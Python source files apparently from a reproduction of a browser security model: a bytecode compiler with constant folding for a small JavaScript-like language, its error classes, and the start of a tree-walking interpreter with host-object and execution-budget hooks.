JF_NE = 53
JF_LT_CONST = 54
JF_GT_CONST = 55
JF_LE_CONST = 56
JF_GE_CONST = 57
JF_EQ_CONST = 58
JF_NE_CONST = 59
# Binary ops with an embedded constant right operand.
BIN_ADD_CONST = 60
BIN_SUB_CONST = 61
BIN_MUL_CONST = 62
BIN_MOD_CONST = 63
# Store that also latches the completion-value register (program frames).
STORE_NAME_RES = 64

#: Binary AST operator -> opcode.  ``==``/``===`` (and their negations) are
#: the same operation in MiniScript, exactly as in the walker.
_BINARY_OPS = {
    "+": BIN_ADD,
    "-": BIN_SUB,
    "*": BIN_MUL,
    "/": BIN_DIV,
    "%": BIN_MOD,
    "==": BIN_EQ,
    "===": BIN_EQ,
    "!=": BIN_NE,
    "!==": BIN_NE,
    "<": BIN_LT,
    ">": BIN_GT,
    "<=": BIN_LE,
    ">=": BIN_GE,
}

_UNARY_OPS = {"!": UNARY_NOT, "-": UNARY_NEG, "+": UNARY_POS}

#: Comparison operator -> fused jump-if-false opcode (loop/branch tests).
_CMP_JF = {
    "<": JF_LT,
    ">": JF_GT,
    "<=": JF_LE,
    ">=": JF_GE,
    "==": JF_EQ,
    "===": JF_EQ,
    "!=": JF_NE,
    "!==": JF_NE,
}

_CMP_JF_CONST = {
    "<": JF_LT_CONST,
    ">": JF_GT_CONST,
    "<=": JF_LE_CONST,
    ">=": JF_GE_CONST,
    "==": JF_EQ_CONST,
    "===": JF_EQ_CONST,
    "!=": JF_NE_CONST,
    "!==": JF_NE_CONST,
}

#: Fused jump opcodes whose arg is ``[constant, target]`` (patch slot 1).
_CONST_JF_SET = frozenset(_CMP_JF_CONST.values())

#: Arithmetic operator -> const-right-operand opcode.  Division keeps the
#: generic opcode (its zero-denominator ladder is not worth duplicating).
_BIN_CONST_OPS = {
    "+": BIN_ADD_CONST,
    "-": BIN_SUB_CONST,
    "*": BIN_MUL_CONST,
    "%": BIN_MOD_CONST,
}

#: Opcode number -> symbolic name (disassembly / debugging / tests).
OPCODE_NAMES = {
    value: name
    for name, value in sorted(globals().items())
    if name.isupper() and isinstance(value, int) and not name.startswith("_")
}


class CodeObject:
    """One compiled executable unit (a whole program or one function body).

    ``insns`` is a flat list of ``(opcode, arg)`` tuples; ``lines`` is the
    parallel source-line table used for error attribution and the budget
    guard.  ``loops`` is the loop-region table: ``(body_start, body_end,
    break_pc, continue_pc, scope_depth)`` per loop, innermost regions first,
    consulted when a break/continue signal arrives *dynamically* (raised
    inside a called function) rather than from a syntactic break/continue,
    which compiles to a plain jump.  ``constants`` is the pooled literal
    set -- each distinct literal value is materialised once and every
    ``LOAD_CONST`` site references the pooled object.
    """

    __slots__ = ("name", "params", "insns", "lines", "constants", "loops")

    def __init__(
        self,
        *,
        name: str,
        params: list[str],
        insns: list[tuple],
        lines: list[int],
        constants: list,
        loops: tuple[tuple[int, int, int, int, int], ...],
    ) -> None:
        self.name = name
        self.params = params
        self.insns = insns
        self.lines = lines
        self.constants = constants
        self.loops = loops

    def disassemble(self) -> str:
        """Human-readable listing (debugging aid, exercised by tests)."""
        out = []
        for pc, (op, arg) in enumerate(self.insns):
            label = OPCODE_NAMES.get(op, str(op))
            out.append(f"{pc:4d}  {label:<22} {arg!r}  (line {self.lines[pc]})")
        return "\n".join(out)


# -- constant folding -------------------------------------------------------------------

_LITERALS = (ast.NumberLiteral, ast.StringLiteral, ast.BooleanLiteral, ast.NullLiteral)

#: Sentinel: the expression could not be folded (would raise, or produces a
#: value with no literal representation).
_NO_FOLD = object()


def _literal_value(node: ast.Node):
    return None if isinstance(node, ast.NullLiteral) else node.value


def _make_literal(value, line: int) -> Optional[ast.Node]:
    if value is None:
        return ast.NullLiteral(line=line)
    if value is True or value is False:
        return ast.BooleanLiteral(value, line=line)
    if isinstance(value, (int, float)):
        return ast.NumberLiteral(float(value), line=line)
    if isinstance(value, str):
        return ast.StringLiteral(value, line=line)
    return None


def _eval_unary(operator: str, value):
    if operator == "typeof":
        return _typeof(value)
    if operator == "!":
        return not _truthy(value)
    if operator == "-":
        return -_to_number(value)
    if operator == "+":
        return _to_number(value)
    return _NO_FOLD


def _eval_binary(operator: str, left, right):
    """The walker's pure binary semantics, verbatim (minus short-circuit)."""
    if operator == "+":
        if isinstance(left, str) or isinstance(right, str):
            return _to_string(left) + _to_string(right)
        return _to_number(left) + _to_number(right)
    if operator == "-":
        return _to_number(left) - _to_number(right)
    if operator == "*":
        return _to_number(left) * _to_number(right)
    if operator == "/":
        right_number = _to_number(right)
        if right_number == 0:
            return float("inf") if _to_number(left) > 0 else float("-inf") if _to_number(left) < 0 else float("nan")
        return _to_number(left) / right_number
    if operator == "%":
        return _to_number(left) % _to_number(right)
    if operator in ("==", "==="):
        return _loose_equal(left, right)
    if operator in ("!=", "!=="):
        return not _loose_equal(left, right)
    if operator == "<":
        return _compare(left, right) < 0
    if operator == ">":
        return _compare(left, right) > 0
    if operator == "<=":
        return _compare(left, right) <= 0
    if operator == ">=":
        return _compare(left, right) >= 0
    return _NO_FOLD


def fold_expression(node: ast.Node) -> ast.Node:
    """Fold pure literal subexpressions; returns a *new* node when changed."""
    if node is None:
        return None
    cls = node.__class__
    if cls in (ast.NumberLiteral, ast.StringLiteral, ast.BooleanLiteral, ast.NullLiteral, ast.Identifier):
        return node
    if cls is ast.Unary:
        operand = fold_expression(node.operand)
        if isinstance(operand, _LITERALS):
            try:
                value = _eval_unary(node.operator, _literal_value(operand))
            except Exception:
                value = _NO_FOLD
            if value is not _NO_FOLD:
                literal = _make_literal(value, node.line)
                if literal is not None:
                    return literal
        if operand is node.operand:
            return node
        return ast.Unary(operator=node.operator, operand=operand, line=node.line)
    if cls is ast.Binary:
        left = fold_expression(node.left)
        right = fold_expression(node.right)
        operator = node.operator
        if operator in ("&&", "||") and isinstance(left, _LITERALS):
            # Short-circuit on a literal left operand: the walker either
            # returns the left value untouched or evaluates only the right.
            taken_if_truthy = right if operator == "&&" else left
            taken_if_falsy = left if operator == "&&" else right
            return taken_if_truthy if _truthy(_literal_value(left)) else taken_if_falsy
        if isinstance(left, _LITERALS) and isinstance(right, _LITERALS):
            try:
                value = _eval_binary(operator, _literal_value(left), _literal_value(right))
            except Exception:
                # e.g. ``1 % 0`` -> ZeroDivisionError: must stay a runtime
                # error at this site, not a compile-time crash.
                value = _NO_FOLD
            if value is not _NO_FOLD:
                literal = _make_literal(value, node.line)
                if literal is not None:
                    return literal
        if left is node.left and right is node.right:
            return node
        return ast.Binary(operator=operator, left=left, right=right, line=node.line)
    if cls is ast.Conditional:
        test = fold_expression(node.test)
        consequent = fold_expression(node.consequent)
        alternate = fold_expression(node.alternate)
        if isinstance(test, _LITERALS):
            # Only the taken branch is ever evaluated, so dropping the other
            # is unobservable.
            return consequent if _truthy(_literal_value(test)) else alternate
        if test is node.test and consequent is node.consequent and alternate is node.alternate:
            return node
        return ast.Conditional(test=test, consequent=consequent, alternate=alternate, line=node.line)
    if cls is ast.Assignment:
        target = fold_expression(node.target) if isinstance(node.target, ast.MemberAccess) else node.target
        value = fold_expression(node.value)
        if target is node.target and value is node.value:
            return node
        return ast.Assignment(target=target, value=value, operator=node.operator, line=node.line)
    if cls is ast.MemberAccess:
        target = fold_expression(node.target)
        index = fold_expression(node.index)
        if target is node.target and index is node.index:
            return node
        return ast.MemberAccess(
            target=target, name=node.name, index=index, computed=node.computed, line=node.line
        )
    if cls is ast.Call:
        callee = fold_expression(node.callee)
        arguments = [fold_expression(argument) for argument in node.arguments]
        if callee is node.callee and all(a is b for a, b in zip(arguments, node.arguments)):
            return node
        return ast.Call(callee=callee, arguments=arguments, line=node.line)
    if cls is ast.NewExpression:
        arguments = [fold_expression(argument) for argument in node.arguments]
        if all(a is b for a, b in zip(arguments, node.arguments)):
            return node
        return ast.NewExpression(constructor=node.constructor, arguments=arguments, line=node.line)
    if cls is ast.ArrayLiteral:
        elements = [fold_expression(element) for element in node.elements]
        if all(a is b for a, b in zip(elements, node.elements)):
            return node
        return ast.ArrayLiteral(elements=elements, line=node.line)
    if cls is ast.ObjectLiteral:
        entries = [(key, fold_expression(value)) for key, value in node.entries]
        if all(a is b for (_, a), (_, b) in zip(entries, node.entries)):
            return node
        return ast.ObjectLiteral(entries=entries, line=node.line)
    if cls is ast.FunctionExpression:
        body = _fold_block(node.body)
        if body is node.body:
            return node
        return ast.FunctionExpression(
            parameters=node.parameters, body=body, name=node.name, line=node.line
        )
    return node


def _fold_block(node: ast.Block) -> ast.Block:
    statements = [fold_statement(statement) for statement in node.statements]
    if all(a is b for a, b in zip(statements, node.statements)):
        return node
    return ast.Block(statements=statements, line=node.line)


def fold_statement(node: ast.Node) -> ast.Node:
    """Fold expressions nested inside a statement (statements are kept:
    removing one would change the program's completion value)."""
    cls = node.__class__
    if cls is ast.ExpressionStatement:
        expression = fold_expression(node.expression)
        if expression is node.expression:
            return node
        return ast.ExpressionStatement(expression=expression, line=node.line)
    if cls is ast.VarDeclaration:
        if node.initializer is None:
            return node
        initializer = fold_expression(node.initializer)
        if initializer is node.initializer:
            return node
        return ast.VarDeclaration(name=node.name, initializer=initializer, line=node.line)
    if cls is ast.FunctionDeclaration:
        body = _fold_block(node.body)
        if body is node.body:
            return node
        return ast.FunctionDeclaration(name=node.name, parameters=node.parameters, body=body, line=node.line)
    if cls is ast.Return:
        if node.value is None:
            return node
        value = fold_expression(node.value)
        if value is node.value:
            return node
        return ast.Return(value=value, line=node.line)
    if cls is ast.If:
        test = fold_expression(node.test)
        consequent = fold_statement(node.consequent)
        alternate = fold_statement(node.alternate) if node.alternate is not None else None
        if test is node.test and consequent is node.consequent and alternate is node.alternate:
            return node
        return ast.If(test=test, consequent=consequent, alternate=alternate, line=node.line)
    if cls is ast.While:
        test = fold_expression(node.test)
        body = fold_statement(node.body)
        if test is node.test and body is node.body:
            return node
        return ast.While(test=test, body=body, line=node.line)
    if cls is ast.For:
        init = fold_statement(node.init) if isinstance(node.init, ast.VarDeclaration) \
            else fold_expression(node.init) if node.init is not None else None
        test = fold_expression(node.test) if node.test is not None else None
        update = fold_expression(node.update) if node.update is not None else None
        body = fold_statement(node.body)
        if init is node.init and test is node.test and update is node.update and body is node.body:
            return node
        return ast.For(init=init, test=test, update=update, body=body, line=node.line)
    if cls is ast.Block:
        return _fold_block(node)
    if cls in (ast.Break, ast.Continue):
        return node
    # Bare expressions in statement position (for-init, for-update).
    return fold_expression(node)


def fold_program(program: ast.Program) -> ast.Program:
    """Fold a whole program, never mutating the (shared) input tree."""
    body = [fold_statement(statement) for statement in program.body]
    if all(a is b for a, b in zip(body, program.body)):
        return program
    return ast.Program(body=body, line=program.line)


# -- lowering ---------------------------------------------------------------------------

_NO_CONST = object()


def _is_literal_truthy(node: ast.Node) -> bool:
    """True for literal tests that can never be falsy (``while (true)``)."""
    return isinstance(node, _LITERALS) and _truthy(_literal_value(node))


class _Compiler:
    """Lowers one executable unit (program body or function body)."""

    def __init__(self, *, name: str, params: list[str], is_function: bool) -> None:
        self.name = name
        self.params = params
        self.is_function = is_function
        self.insns: list[list] = []
        self.lines: list[int] = []
        self.loops: list[tuple[int, int, int, int, int]] = []
        self._active_loops: list[dict] = []
        self._pool: dict[tuple, Any] = {}
        self.constants: list = []
        self.depth = 0

    # -- emission helpers --------------------------------------------------------------

    def emit(self, op: int, arg=None, *, line: int = 0) -> int:
        self.insns.append([op, arg])
        self.lines.append(line)
        return len(self.insns) - 1

    def patch(self, index: int, target: int | None = None) -> None:
        resolved = len(self.insns) if target is None else target
        insn = self.insns[index]
        if insn[0] in _CONST_JF_SET:
            insn[1][1] = resolved  # arg is [constant, target]
        else:
            insn[1] = resolved

    def here(self) -> int:
        return len(self.insns)

    def const(self, value) -> Any:
        """Pool a literal: one materialised object per distinct value."""
        key = (value.__class__.__name__, repr(value))
        pooled = self._pool.get(key, _NO_CONST)
        if pooled is _NO_CONST:
            self._pool[key] = value
            self.constants.append(value)
            pooled = value
        return pooled

    def _test_jump_false(self, test: ast.Node) -> int:
        """Compile a branch test plus its jump-if-false; returns the patch
        index.  Bare comparisons fuse into a single compare-and-branch
        instruction (with the right operand embedded when it is a literal),
        which removes two dispatches from every loop iteration."""
        if test.__class__ is ast.Binary:
            fused = _CMP_JF.get(test.operator)
            if fused is not None:
                self.expr(test.left)
                if isinstance(test.right, _LITERALS):
                    constant = self.const(_literal_value(test.right))
                    return self.emit(
                        _CMP_JF_CONST[test.operator], [constant, -1], line=test.line
                    )
                self.expr(test.right)
                return self.emit(fused, line=test.line)
        self.expr(test)
        return self.emit(JUMP_IF_FALSE, line=getattr(test, "line", 0))

    def _res_store(self, line: int) -> None:
        # The completion-value register only matters for program frames
        # (``run()`` returns the last statement's value); function frames
        # just balance the stack.
        self.emit(POP if self.is_function else RES_STORE, line=line)

    def _res_clear(self, line: int) -> None:
        if not self.is_function:
            self.emit(RES_CLEAR, line=line)

    def finish(self) -> CodeObject:
        return CodeObject(
            name=self.name,
            params=self.params,
            insns=[tuple(insn) for insn in self.insns],
            lines=self.lines,
            constants=self.constants,
            loops=tuple(self.loops),
        )

    # -- statements --------------------------------------------------------------------

    def stmt(self, node: ast.Node) -> None:
        cls = node.__class__
        line = getattr(node, "line", 0)
        if cls is ast.ExpressionStatement:
            expression = node.expression
            if expression.__class__ is ast.Assignment:
                # An assignment in statement position never leaves its value
                # on the stack: it stores straight into the result register
                # (program frames) or is discarded (function frames).
                self._assignment(expression, mode="drop" if self.is_function else "res")
            else:
                self.expr(expression)
                self._res_store(line)
        elif cls is ast.VarDeclaration:
            if node.initializer is not None:
                self.expr(node.initializer)
            else:
                self.emit(LOAD_CONST, None, line=line)
            # DEFINE_NAME also clears the completion-value register, so no
            # separate RES_CLEAR is needed after a declaration.
            self.emit(DEFINE_NAME, node.name, line=line)
        elif cls is ast.FunctionDeclaration:
            self._function(node)
            self.emit(DEFINE_NAME, node.name, line=line)
        elif cls is ast.Return:
            if node.value is not None:
                self.expr(node.value)
            else:
                self.emit(LOAD_CONST, None, line=line)
            # Inside a function a return pops the frame; at the top level the
            # walker raises "illegal return at top level" via the signal.
            self.emit(RETURN_VALUE if self.is_function else RAISE_RETURN, line=line)
        elif cls is ast.If:
            self._if(node)
        elif cls is ast.While:
            self._while(node)
        elif cls is ast.For:
            self._for(node)
        elif cls is ast.Block:
            self._block(node)
        elif cls is ast.Break:
            self._break_continue(node, is_break=True)
        elif cls is ast.Continue:
            self._break_continue(node, is_break=False)
        else:
            # Bare expression in statement position (for-init / for-update).
            self.expr(node)
            self._res_store(line)

    def _if(self, node: ast.If) -> None:
        jump_false = self._test_jump_false(node.test)
        self.stmt(node.consequent)
        jump_end = self.emit(JUMP, line=node.line)
        self.patch(jump_false)
        if node.alternate is not None:
            self.stmt(node.alternate)
        else:
            self._res_clear(node.line)
        self.patch(jump_end)

    def _while(self, node: ast.While) -> None:
        line = node.line
        loop = {"depth": self.depth, "breaks": [], "continues": []}
        self._active_loops.append(loop)
        start = self.here()
        jump_false = None
        if not _is_literal_truthy(node.test):
            jump_false = self._test_jump_false(node.test)
        body_start = self.here()
        self.stmt(node.body)
        self.emit(JUMP, start, line=line)
        end = self.here()
        if jump_false is not None:
            self.patch(jump_false, end)
        for index in loop["breaks"]:
            self.patch(index, end)
        for index in loop["continues"]:
            self.patch(index, start)
        self._res_clear(line)  # a while statement's completion value is None
        self._active_loops.pop()
        # Region covers the body only: the walker's try wraps just the body,
        # so a signal escaping the *test* propagates past the loop.
        self.loops.append((body_start, end, end, start, loop["depth"]))

    def _for(self, node: ast.For) -> None:
        line = node.line
        # The walker always gives a for loop its own environment; it is only
        # observable when something *defines* into it.
        scoped = isinstance(node.init, ast.VarDeclaration) or isinstance(
            node.body, (ast.VarDeclaration, ast.FunctionDeclaration)
        )
        if scoped:
            self.emit(ENTER_SCOPE, line=line)
            self.depth += 1
        if node.init is not None:
            if isinstance(node.init, ast.VarDeclaration):
                self.stmt(node.init)
            else:
                self._discard_expr(node.init)
        loop = {"depth": self.depth, "breaks": [], "continues": []}
        self._active_loops.append(loop)
        test_start = self.here()
        jump_false = None
        if node.test is not None and not _is_literal_truthy(node.test):
            jump_false = self._test_jump_false(node.test)
        body_start = self.here()
        self.stmt(node.body)
        # ``continue`` lands on the update (walker: the update still runs);
        # with no update it lands straight on the back-jump to the test.
        continue_target = self.here()
        if node.update is not None:
            self._discard_expr(node.update)
        self.emit(JUMP, test_start, line=line)
        end = self.here()
        if jump_false is not None:
            self.patch(jump_false, end)
        for index in loop["breaks"]:
            self.patch(index, end)
        for index in loop["continues"]:
            self.patch(index, continue_target)
        self._res_clear(line)
        if scoped:
            self.emit(EXIT_SCOPE, line=line)
            self.depth -= 1
        self._active_loops.pop()
        # Region covers body only (not the update: a continue raised inside
        # the update propagates outward in the walker too).
        self.loops.append((body_start, continue_target, end, continue_target, loop["depth"]))

    def _block(self, node: ast.Block) -> None:
        # The walker gives every block its own environment; a fresh scope is
        # only observable when the block defines names into it.
        scoped = any(
            isinstance(statement, (ast.VarDeclaration, ast.FunctionDeclaration))
            for statement in node.statements
        )
        if scoped:
            self.emit(ENTER_SCOPE, line=node.line)
            self.depth += 1
        if node.statements:
            for statement in node.statements:
                self.stmt(statement)
        else:
            self._res_clear(node.line)  # empty block completes with None
        if scoped:
            self.emit(EXIT_SCOPE, line=node.line)
            self.depth -= 1

    def _break_continue(self, node: ast.Node, *, is_break: bool) -> None:
        line = node.line
        if self._active_loops:
            # Syntactically inside a loop of this unit: unwind any block
            # scopes opened since the loop, then jump -- no exception needed.
            loop = self._active_loops[-1]
            for _ in range(self.depth - loop["depth"]):
                self.emit(EXIT_SCOPE, line=line)
            loop["breaks" if is_break else "continues"].append(self.emit(JUMP, line=line))
        else:
            # Outside any loop the walker's signal escapes the frame: either
            # a caller's loop catches it (dynamic break across a call) or
            # run() reports "illegal break/continue at top level".
            self.emit(RAISE_BREAK if is_break else RAISE_CONTINUE, line=line)

    def _discard_expr(self, node: ast.Node) -> None:
        """Compile an expression whose value is unused (for-init/update)."""
        if node.__class__ is ast.Assignment:
            self._assignment(node, mode="drop")
        else:
            self.expr(node)
            self.emit(POP, line=getattr(node, "line", 0))

    # -- expressions -------------------------------------------------------------------

    def expr(self, node: ast.Node) -> None:
        cls = node.__class__
        line = getattr(node, "line", 0)
        if cls is ast.NumberLiteral or cls is ast.StringLiteral or cls is ast.BooleanLiteral:
            self.emit(LOAD_CONST, self.const(node.value), line=line)
        elif cls is ast.NullLiteral:
            self.emit(LOAD_CONST, None, line=line)
        elif cls is ast.Identifier:
            self.emit(LOAD_NAME, node.name, line=line)
        elif cls is ast.MemberAccess:
            self.expr(node.target)
            if node.computed:
                self.expr(node.index)
                # Mutable inline-cache cell: [cached class, dispatch kind].
                self.emit(GET_MEMBER_COMPUTED, [None, -1], line=line)
            else:
                # Inline-cache cell: [property name, cached class, kind].
                self.emit(GET_MEMBER, [node.name or "", None, -1], line=line)
        elif cls is ast.Call:
            self._call(node)
        elif cls is ast.Assignment:
            self._assignment(node)
        elif cls is ast.Binary:
            self._binary(node)
        elif cls is ast.Unary:
            self._unary(node)
        elif cls is ast.Conditional:
            jump_false = self._test_jump_false(node.test)
            self.expr(node.consequent)
            jump_end = self.emit(JUMP, line=line)
            self.patch(jump_false)
            self.expr(node.alternate)
            self.patch(jump_end)
        elif cls is ast.ArrayLiteral:
            for element in node.elements:
                self.expr(element)
            self.emit(BUILD_ARRAY, len(node.elements), line=line)
        elif cls is ast.ObjectLiteral:
            for _key, value in node.entries:
                self.expr(value)
            self.emit(BUILD_OBJECT, tuple(key for key, _ in node.entries), line=line)
        elif cls is ast.FunctionExpression:
            self._function(node)
        elif cls is ast.NewExpression:
            # Walker order: constructor lookup first, then the arguments.
            self.emit(LOAD_NAME, node.constructor, line=line)
            for argument in node.arguments:
                self.expr(argument)
            self.emit(NEW, (len(node.arguments), node.constructor), line=line)
        else:
            raise RuntimeScriptError(f"cannot evaluate {cls.__name__}", line)

    def _unary(self, node: ast.Unary) -> None:
        line = node.line
        if node.operator == "typeof":
            # Soft region: any RuntimeScriptError inside the operand makes
            # the whole expression "undefined" (the walker's try/except).
            setup = self.emit(SETUP_SOFT, line=line)
            self.expr(node.operand)
            self.emit(TYPEOF, line=line)
            self.emit(POP_SOFT, line=line)
            self.patch(setup)  # handler target: just past the region
            return
        self.expr(node.operand)
        op = _UNARY_OPS.get(node.operator)
        if op is None:
            raise RuntimeScriptError(f"unknown unary operator {node.operator}", line)
        self.emit(op, line=line)

    def _binary(self, node: ast.Binary) -> None:
        line = node.line
        operator = node.operator
        if operator == "&&":
            self.expr(node.left)
            jump = self.emit(JUMP_IF_FALSE_OR_POP, line=line)
            self.expr(node.right)
            self.patch(jump)
            return
        if operator == "||":
            self.expr(node.left)
            jump = self.emit(JUMP_IF_TRUE_OR_POP, line=line)
            self.expr(node.right)
            self.patch(jump)
            return
        op = _BINARY_OPS.get(operator)
        if op is None:
            raise RuntimeScriptError(f"unknown operator {operator}", line)
        self.expr(node.left)
        if isinstance(node.right, _LITERALS):
            const_op = _BIN_CONST_OPS.get(operator)
            if const_op is not None:
                # Embed the literal right operand (``i + 1``, ``n % 7``):
                # one instruction instead of LOAD_CONST + BIN_*.
                self.emit(const_op, self.const(_literal_value(node.right)), line=line)
                return
        self.expr(node.right)
        self.emit(op, line=line)

    def _call(self, node: ast.Call) -> None:
        # Walker order: arguments first, then the callee.
        for argument in node.arguments:
            self.expr(argument)
        callee = node.callee
        if callee.__class__ is ast.MemberAccess:
            self.expr(callee.target)
            if callee.computed:
                self.expr(callee.index)
                # IC cell: [argc, cached class, kind].
                self.emit(CALL_METHOD_COMPUTED, [len(node.arguments), None, -1], line=callee.line)
            else:
                # IC cell: [method name, argc, cached class, kind].
                self.emit(
                    CALL_METHOD,
                    [callee.name or "", len(node.arguments), None, -1],
                    line=callee.line,
                )
        else:
            self.expr(callee)
            self.emit(CALL_FUNCTION, len(node.arguments), line=node.line)

    def _assignment(self, node: ast.Assignment, mode: str = "keep") -> None:
        """Compile an assignment.  ``mode`` says what happens to the value:
        ``keep`` leaves it on the stack (expression position), ``res``
        latches it into the result register (program-frame statement), and
        ``drop`` discards it (function-frame statement, for-init/update)."""
        target = node.target
        target_cls = target.__class__
        line = node.line
        if node.operator == "=":
            if target_cls is ast.Identifier:
                self.expr(node.value)
                self._name_store(target.name, mode, line)
            elif target_cls is ast.MemberAccess:
                self.expr(node.value)
                self._member_store(target)
                self._member_tail(mode, line)
            else:
                raise RuntimeScriptError("invalid assignment target", line)
            return
        # Compound assignment.  Walker order: value first, then the current
        # target value (a full member read, including js_get), combine, then
        # re-evaluate the target object/key for the write.
        base_operator = node.operator[0]
        if target_cls is ast.Identifier:
            self.expr(node.value)
            self.emit(LOAD_NAME, target.name, line=target.line)
            self.emit(COMPOUND, base_operator, line=line)
            self._name_store(target.name, mode, line)
        elif target_cls is ast.MemberAccess:
            self.expr(node.value)
            self.expr(target.target)
            if target.computed:
                self.expr(target.index)
                self.emit(GET_MEMBER_COMPUTED, [None, -1], line=target.line)
            else:
                self.emit(GET_MEMBER, [target.name or "", None, -1], line=target.line)
            self.emit(COMPOUND, base_operator, line=line)
            self._member_store(target)
            self._member_tail(mode, line)
        else:
            raise RuntimeScriptError("invalid assignment target", line)

    def _name_store(self, name: str, mode: str, line: int) -> None:
        """Store the stack top into ``name``, honouring the value mode."""
        if mode == "keep":
            self.emit(DUP, line=line)  # the assignment's value is its result
            self.emit(STORE_NAME, name, line=line)
        elif mode == "res":
            self.emit(STORE_NAME_RES, name, line=line)
        else:  # drop
            self.emit(STORE_NAME, name, line=line)

    def _member_tail(self, mode: str, line: int) -> None:
        """SET_MEMBER leaves the stored value on the stack; consume it
        according to the value mode."""
        if mode == "res":
            self.emit(RES_STORE, line=line)
        elif mode == "drop":
            self.emit(POP, line=line)

    def _member_store(self, target: ast.MemberAccess) -> None:
        """Emit the object/key evaluation and SET for ``target`` (the value
        to store is already on the stack and stays as the result)."""
        self.expr(target.target)
        if target.computed:
            self.expr(target.index)
            self.emit(SET_MEMBER_COMPUTED, [None, -1], line=target.line)
        else:
            self.emit(SET_MEMBER, [target.name or "", None, -1], line=target.line)

    def _function(self, node: ast.FunctionDeclaration | ast.FunctionExpression) -> None:
        code = compile_function(node)
        self.emit(MAKE_FUNCTION, (code, node), line=node.line)


def compile_function(declaration: ast.FunctionDeclaration | ast.FunctionExpression) -> CodeObject:
    """Compile one function body into a :class:`CodeObject`.

    The body block is compiled straight into the invocation frame: the
    walker's extra block environment under the parameter environment is
    unobservable (defines shadow parameters identically in both layouts).
    """
    compiler = _Compiler(
        name=getattr(declaration, "name", None) or "<anonymous>",
        params=list(declaration.parameters),
        is_function=True,
    )
    body = declaration.body
    statements = body.statements if isinstance(body, ast.Block) else [body]
    for statement in statements:
        compiler.stmt(statement)
    # Falling off the end returns None, like the walker's _invoke.
    compiler.emit(LOAD_CONST, None, line=getattr(body, "line", 0))
    compiler.emit(RETURN_VALUE, line=getattr(body, "line", 0))
    return compiler.finish()


def compile_program(program: ast.Program, *, fold: bool = True) -> CodeObject:
    """Lower a parsed program to bytecode (constant-folded by default)."""
    if fold:
        program = fold_program(program)
    compiler = _Compiler(name="<program>", params=[], is_function=False)
    for statement in program.body:
        compiler.stmt(statement)
    compiler.emit(END_PROGRAM, line=0)
    return compiler.finish()
