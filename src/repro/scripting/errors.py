"""Errors raised by the MiniScript substrate."""

from __future__ import annotations


class ScriptError(Exception):
    """Base class for every MiniScript error."""

    def __init__(self, message: str, line: int | None = None, column: int | None = None) -> None:
        location = f" (line {line}, column {column})" if line is not None else ""
        super().__init__(f"{message}{location}")
        self.message = message
        self.line = line
        self.column = column


class LexError(ScriptError):
    """The source text could not be tokenised."""


class ParseError(ScriptError):
    """The token stream could not be parsed into a program."""


class RuntimeScriptError(ScriptError):
    """The program failed while executing (bad member access, type error...)."""


class BudgetExceeded(RuntimeScriptError):
    """The program exceeded its execution step budget.

    The browser gives every script a finite budget so that malicious or
    buggy scripts (infinite loops) cannot hang experiments.
    """
