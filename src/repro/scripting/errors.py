"""Errors raised by the MiniScript substrate."""

from __future__ import annotations


class ScriptError(Exception):
    """Base class for every MiniScript error.

    ``line`` is a property so that late position stamping -- the walker's
    node wrappers and the VM's line table attach positions after the error
    is raised -- re-renders the displayed message to include it.
    """

    def __init__(self, message: str, line: int | None = None, column: int | None = None) -> None:
        super().__init__(message)
        self.message = message
        self.column = column
        self.line = line

    @property
    def line(self) -> int | None:
        return self._line

    @line.setter
    def line(self, value: int | None) -> None:
        self._line = value
        if value is None:
            location = ""
        elif self.column is None:
            location = f" (line {value})"
        else:
            location = f" (line {value}, column {self.column})"
        self.args = (f"{self.message}{location}",)


class LexError(ScriptError):
    """The source text could not be tokenised."""


class ParseError(ScriptError):
    """The token stream could not be parsed into a program."""


class RuntimeScriptError(ScriptError):
    """The program failed while executing (bad member access, type error...)."""


class BudgetExceeded(RuntimeScriptError):
    """The program exceeded its execution step budget.

    The browser gives every script a finite budget so that malicious or
    buggy scripts (infinite loops) cannot hang experiments.
    """
