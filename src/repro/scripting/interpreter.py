"""MiniScript tree-walking interpreter.

Executes programs produced by :mod:`repro.scripting.parser`.  The interpreter
is deliberately small but complete enough for the reproduction's workloads:
variables, functions (including closures used as event-handler callbacks),
control flow, arrays, object literals, string/array built-in methods, host
objects and ``new`` construction of host types such as ``XMLHttpRequest``.

Host interoperability
---------------------
The browser exposes its mediated APIs to scripts as *host objects*
(subclasses of :class:`HostObject`).  Property reads, writes and method
calls on host objects are forwarded to ``js_get`` / ``js_set`` / ``js_call``,
which is where the DOM facade, cookie access and ``XMLHttpRequest`` perform
their reference-monitor checks.  The interpreter itself knows nothing about
ESCUDO -- exactly like a real JavaScript engine.

Execution budget
----------------
Every run is bounded by a step budget so that attack scripts with infinite
loops cannot hang the experiments; exceeding it raises
:class:`~repro.scripting.errors.BudgetExceeded` which the browser converts
into a script error.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Iterable, Optional

from . import ast_nodes as ast
from .errors import BudgetExceeded, RuntimeScriptError, ScriptError
from .parser import parse_script


class HostObject:
    """Base class for objects the browser exposes into the script world."""

    #: Name reported by ``typeof`` and error messages.
    host_name = "HostObject"

    def js_get(self, name: str):
        """Read a property; subclasses override."""
        raise RuntimeScriptError(f"{self.host_name} has no property {name!r}")

    def js_set(self, name: str, value) -> None:
        """Write a property; subclasses override."""
        raise RuntimeScriptError(f"{self.host_name} property {name!r} is not writable")

    def js_call(self, name: str, args: list):
        """Invoke a method; the default resolves the property and calls it."""
        member = self.js_get(name)
        if callable(member):
            return member(*args)
        raise RuntimeScriptError(f"{self.host_name}.{name} is not a function")


class NativeFunction:
    """A Python callable exposed as a script function."""

    def __init__(self, func: Callable, name: str = "native") -> None:
        self._func = func
        self.name = name

    def __call__(self, *args):
        return self._func(*args)

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"<NativeFunction {self.name}>"


class NativeConstructor:
    """A host type constructible with ``new`` (e.g. ``XMLHttpRequest``)."""

    def __init__(self, factory: Callable[..., HostObject], name: str) -> None:
        self._factory = factory
        self.name = name

    def construct(self, args: list) -> HostObject:
        """Instantiate the host object."""
        return self._factory(*args)

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"<NativeConstructor {self.name}>"


@dataclass
class ScriptFunction:
    """A user-defined MiniScript function (a closure)."""

    declaration: ast.FunctionExpression | ast.FunctionDeclaration
    closure: "Environment"

    @property
    def parameters(self) -> list[str]:
        return self.declaration.parameters

    @property
    def name(self) -> str:
        return getattr(self.declaration, "name", None) or "<anonymous>"


#: Sentinel distinguishing "name absent" from a binding whose value is None
#: (``var x;`` stores an explicit ``None``).
_UNBOUND = object()


